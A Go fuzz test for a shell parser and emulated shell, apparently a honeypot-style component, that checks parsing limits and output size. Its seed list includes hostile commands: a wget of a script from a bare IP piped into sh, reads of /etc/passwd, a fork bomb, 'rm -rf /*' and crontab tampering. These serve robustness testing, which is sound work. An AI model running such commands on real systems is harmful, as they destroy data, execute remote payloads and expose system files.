package shell

import (
	"bytes"
	"testing"
)

// FuzzParse feeds arbitrary command lines to the parser and to a shell:
// nothing may panic, a parsed list stays within the limits, and one line's
// output stays within MaxOutput.
func FuzzParse(f *testing.F) {
	for _, s := range []string{
		"uname -a; id", "cd /tmp && wget http://1.2.3.4/x.sh -O- | sh", "echo -e '\\x41\\n' > /tmp/a 2>&1",
		"/bin/busybox ECCHI", "a || b && c & d", "echo $(echo `whoami`) ${HOME:-x} $?", "'unterminated",
		"cat < /etc/passwd | grep root >> out", "X=1 Y=2 env", "sh -c 'sh -c \"echo deep\"'", "echo \\\n next",
		"printf '%s %d %b\\n' a 1 '\\t'", ";;", "| x", "a &&", "echo $((1+2))", "yes | head -n 3",
		"dd if=/proc/self/exe bs=1 count=20 skip=2 of=/tmp/x", "head -c 4 /proc/self/exe", "openssl rand -hex 9999999",
		"strace strace id", "lsof -i :22", "cat /proc/net/arp", "readlink -f /bin/../proc/self/exe", "file -L /bin/bash /x",
		"(crontab -l; echo x) | crontab -", "((((((echo deep))))))", "(cd /; (exit 2)) || echo $?", `( ')' "(" )`, "(a) b",
		`echo 'a b' | awk -F: '{s+=$2; print $1, NF} END {print s/0}'`, `awk 'BEGIN{while(1)print}'`, `echo x | sed 's/\(x\)/\1\1/g;/y/d;$p'`,
		"echo $((2**62*4)) $((1/0)) $((((((1))))))", "seq 1 0 5; seq 99999999", "yes | xargs -n1 echo | head -n 2", "tr -s '[:alpha:]' <<< aaab ~",
		"for i in $(seq 3); do echo $i; done | sort", "while true; do echo x; done", "if true; then for a in b; do break; done; elif; fi", "until false; do continue; done",
		"for; do done", "if then fi", "done; fi; for x in; do :; done && echo ok",
		"f() { f; }; f", "f() { echo $1; }; f a; function g { return 300; }; g; echo $?", ":(){ :|:& };:", "f() {", "function { }",
		"case a in a) echo x;; esac", "case $x in *) ;; esac", "case x in (x|y) echo ok ;;", "case in esac", "{ echo a; }", "{ ; }", "}",
		"cat <<EOF\na $HOME\nEOF", "cat <<-'E'\n\tx\n\tE", "cat <<", "cat << E1 << E2\n1\nE1\n2\nE2", "echo $((1<<2)) <<E",
		"find / -maxdepth 2 -type d -name 't*'", "find -maxdepth x", "ls -la / /tmp nothere", "ls -lh /usr/bin", "stat -c '%a %U %q %' /",
		"cut -c1-3,5- /etc/passwd", "cut -f 0", "grep -oE '[0-9]+' /etc/passwd", "grep -e '\\(' x", "wc -lwc /etc/passwd /etc", "df -h / /nope",
		"echo /*/*/*", "ls /etc/[a-", "cat /etc/*release", "echo \\* '*' \"*\" [", "for f in /tmp/* /etc/.*; do echo $f; done", "rm -rf /*; ls /",
	} {
		f.Add(s)
	}
	s := newFuzzShell()
	f.Fuzz(func(t *testing.T, line string) {
		list, err := Parse(line, nil)
		if err == nil {
			if len(list) > MaxCommands+1 {
				t.Fatalf("%d pipelines", len(list))
			}
			for _, pl := range list {
				if len(pl.Cmds) > MaxCommands+1 {
					t.Fatalf("%d commands", len(pl.Cmds))
				}
			}
		}
		var out bytes.Buffer
		s.Exited = false
		s.Run(line, &out)
		if out.Len() > MaxOutput {
			t.Fatalf("output %d bytes", out.Len())
		}
	})
}
